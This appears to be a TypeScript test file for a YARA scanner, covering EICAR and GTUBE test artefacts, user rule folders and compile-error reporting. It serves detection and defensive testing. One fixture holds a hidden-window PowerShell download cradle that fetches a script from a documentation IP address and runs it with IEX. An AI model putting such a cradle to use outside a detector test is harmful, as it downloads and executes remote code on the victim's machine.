import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { loadConfig } from '../config/load.ts';
import { eicar, initScanner, runScanner } from './testing.ts';
import { checkRules, compileRules, declaredRules, IN_MEMORY_SCAN_MAX, RULES_DIR, YaraRuleError, yaraScanner, type CompiledRules } from './yara.ts';

const cradle = Buffer.from(
  "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\"\r\n",
);

/** A temporary folder of user rules, removed after the test file. */
function rulesDir(files: Record<string, string>): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'verdict-yara-test-'));
  for (const [name, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
    fs.writeFileSync(path.join(dir, name), text);
  }
  dirs.push(dir);
  return dir;
}
const dirs: string[] = [];
after(() => {
  for (const d of dirs) fs.rmSync(d, { recursive: true, force: true });
});

function initWith(yaraRulesDirs: string[]): Promise<unknown> {
  return initScanner(yaraScanner, { config: loadConfig({ dataDir: os.tmpdir(), yaraRulesDirs }, {}) });
}

describe('yara scanner with the bundled rules', () => {
  let state: CompiledRules;
  before(async () => {
    state = (await initScanner(yaraScanner)) as CompiledRules;
  });

  test('EICAR is a test artefact from a malware-severity rule', async () => {
    const r = await runScanner(yaraScanner, eicar(), { name: 'eicar.com', state });
    assert.deepEqual(r.heuristics, ['TEST_ARTEFACT']);
    const e = r.evidence[0];
    assert.equal(e.details, 'Verdict_EICAR_Test_File');
    const meta = e.data?.meta as Record<string, unknown>;
    assert.equal(meta.severity, 'malware');
    assert.equal(meta.test_artefact, true, 'the boolean meta value is restored from the source');
    assert.equal(e.data?.rule, 'Verdict_EICAR_Test_File');
    assert.equal(e.data?.namespace, 'default');
    assert.deepEqual(e.data?.tags, []);
    assert.equal(e.data?.file, path.join(fs.realpathSync(RULES_DIR), 'test-artefacts.yar'));
  });

  test('EICAR with a trailing newline is still the test file; inside a longer file it is not', async () => {
    assert.deepEqual((await runScanner(yaraScanner, Buffer.concat([eicar(), Buffer.from('\r\n')]), { state })).heuristics, ['TEST_ARTEFACT']);
    assert.deepEqual((await runScanner(yaraScanner, Buffer.concat([Buffer.from('see: '), eicar()]), { state })).heuristics, []);
  });

  test('GTUBE is a spam test artefact, not malware', async () => {
    const gtube = ['XJS*C4JDBQADN1.NSBN3*2IDNEN*GTUBE', '-STANDARD-ANTI-UBE-TEST-EMAIL*C.34X'].join('');
    const r = await runScanner(yaraScanner, Buffer.from(`Subject: hi\r\n\r\n${gtube}\r\n`), { state });
    assert.deepEqual(r.heuristics, ['TEST_SPAM_ARTEFACT']);
    assert.equal((r.evidence[0].data?.meta as Record<string, unknown>).severity, 'info');
  });

  test('clean text gives no evidence', async () => {
    const r = await runScanner(yaraScanner, Buffer.from('Minutes of the Tuesday meeting.\nNothing to report.\n'), { state });
    assert.deepEqual(r.evidence, []);
  });

  test('a PowerShell download cradle is suspicious', async () => {
    const r = await runScanner(yaraScanner, cradle, { name: 'run.bat', state });
    assert.deepEqual(r.heuristics, ['YARA_SUSPICIOUS']);
    assert.equal(r.evidence[0].details, 'Verdict_PowerShell_Download_Cradle');
    const meta = r.evidence[0].data?.meta as Record<string, unknown>;
    assert.equal(meta.attack, 'T1105');
    const patterns = r.evidence[0].data?.patterns as { pattern: string; offset: number }[];
    assert.equal(patterns[0].pattern, '$iex_webclient');
  });

  test('a legitimate PowerShell command line is not', async () => {
    const r = await runScanner(yaraScanner, Buffer.from('powershell -ExecutionPolicy Bypass -File .\\build.ps1\r\nInvoke-WebRequest -Uri https://example.org/a.zip -OutFile a.zip\r\n'), { state });
    assert.deepEqual(r.evidence, []);
  });

  test('objects above the in-memory size are scanned from their file', async () => {
    const big = Buffer.alloc(IN_MEMORY_SCAN_MAX + 1024 * 1024, 0x20);
    cradle.copy(big, big.length - cradle.length);
    const r = await runScanner(yaraScanner, big, { name: 'big.log', state });
    assert.deepEqual(r.heuristics, ['YARA_SUSPICIOUS']);
    const patterns = r.evidence[0].data?.patterns as { offset: number }[];
    assert.ok(patterns[0].offset > IN_MEMORY_SCAN_MAX, 'the match is found past the in-memory limit');
  });

  test('the bundled rules do not match their own files', async () => {
    for (const f of fs.readdirSync(RULES_DIR)) {
      const r = await runScanner(yaraScanner, fs.readFileSync(path.join(RULES_DIR, f)), { name: f, state });
      assert.deepEqual(r.evidence, [], f);
    }
  });

  test('accepts files, not URLs', () => {
    assert.equal(yaraScanner.accepts({ kind: 'file' } as never, state), true);
    assert.equal(yaraScanner.accepts({ kind: 'url' } as never, state), false);
  });
});

describe('user rule folders', () => {
  test('rules under yaraRulesDirs (recursively, .yar and .yara) are compiled with the bundled ones', async () => {
    const dir = rulesDir({
      'team/acme.yar': 'rule Acme_Invoice_Lure : phishing\n{\n  meta:\n    severity = "malware"\n    internal = false\n  strings:\n    $a = "ACME-INVOICE-LURE-7731"\n  condition:\n    $a\n}\n',
      'notes.yara': 'rule Acme_Note { meta: description = "no severity" strings: $n = "acme-note-marker" condition: $n }',
      'README.txt': 'this is not a rule file {',
    });
    const state = (await initWith([dir])) as CompiledRules;
    const r = await runScanner(yaraScanner, Buffer.from('Please pay ACME-INVOICE-LURE-7731 today (acme-note-marker)'), { state });
    assert.deepEqual(r.heuristics.sort(), ['YARA_INFO', 'YARA_MALWARE']);
    const lure = r.evidence.find((e) => e.details === 'Acme_Invoice_Lure')!;
    assert.deepEqual(lure.data?.tags, ['phishing']);
    assert.equal((lure.data?.meta as Record<string, unknown>).internal, false);
    assert.equal(lure.data?.file, path.join(fs.realpathSync(dir), 'team', 'acme.yar'));
    // The bundled rules are still there.
    assert.deepEqual((await runScanner(yaraScanner, eicar(), { state })).heuristics, ['TEST_ARTEFACT']);
  });

  test('a broken user rule stops init with the file, line and column', async () => {
    const dir = rulesDir({ 'ok.yar': 'rule Fine { condition: false }\n', 'sub/broken.yar': 'rule Broken\n{\n  strings:\n    $a = "unclosed\n  condition:\n    $a\n}\n' });
    await assert.rejects(initWith([dir]), (e: unknown) => {
      assert.ok(e instanceof YaraRuleError);
      assert.equal(e.file, path.join(fs.realpathSync(dir), 'sub', 'broken.yar'));
      assert.equal(e.line, 4);
      assert.equal(e.column, 10);
      assert.equal(e.compilerCode, 'E001');
      assert.match(e.message, /broken\.yar does not compile: line 4, column 10: syntax error/);
      return true;
    });
  });

  test('a user rule named like a bundled one is an error naming the user file', async () => {
    const dir = rulesDir({ 'dup.yar': 'rule Verdict_EICAR_Test_File { condition: false }\n' });
    await assert.rejects(initWith([dir]), (e: unknown) => {
      assert.ok(e instanceof YaraRuleError);
      assert.equal(path.basename(e.file), 'dup.yar');
      assert.match(e.message, /duplicate rule/);
      return true;
    });
  });

  test('a missing rules folder is an error naming it', async () => {
    const missing = path.join(os.tmpdir(), 'verdict-yara-no-such-folder');
    await assert.rejects(initWith([missing]), (e: unknown) => e instanceof YaraRuleError && e.file === missing && e.message.includes(missing));
  });

  test('checkRules reports every broken file without throwing', () => {
    const dir = rulesDir({
      'a.yar': 'rule A { strings: $x = "abc" condition: $y }\n',
      'b.yar': 'rule B { condition: true\n',
      'c.yar': 'rule C { condition: A or B }\n',
    });
    const r = checkRules([dir]);
    assert.deepEqual(r.errors.map((d) => path.basename(d.file)).sort(), ['a.yar', 'b.yar']);
    assert.ok(r.errors.every((d) => d.line !== undefined && d.report.length > 0));
  });

  test('compileRules on the bundled folder alone', () => {
    const c = compileRules([RULES_DIR]);
    assert.ok(c.files.length >= 4);
    assert.deepEqual(c.warnings, []);
    assert.ok(c.ruleInfo.has('Verdict_GTUBE_Spam_Test'));
  });
});

test('declaredRules reads boolean meta values and skips strings, numbers and comments', () => {
  const src = `
    private rule P { condition: true }
    rule R : t1 t2 {
      meta:
        a = "x = true \\" y" // a comment
        /* b = true */ n = -3 h = 0x10
        flag = true
        off = false
      strings: $a = "meta: q = true"
      condition: $a
    }`;
  const rules = declaredRules(src);
  assert.deepEqual(rules.get('R'), { flag: true, off: false });
  assert.deepEqual(rules.get('P'), {});
});
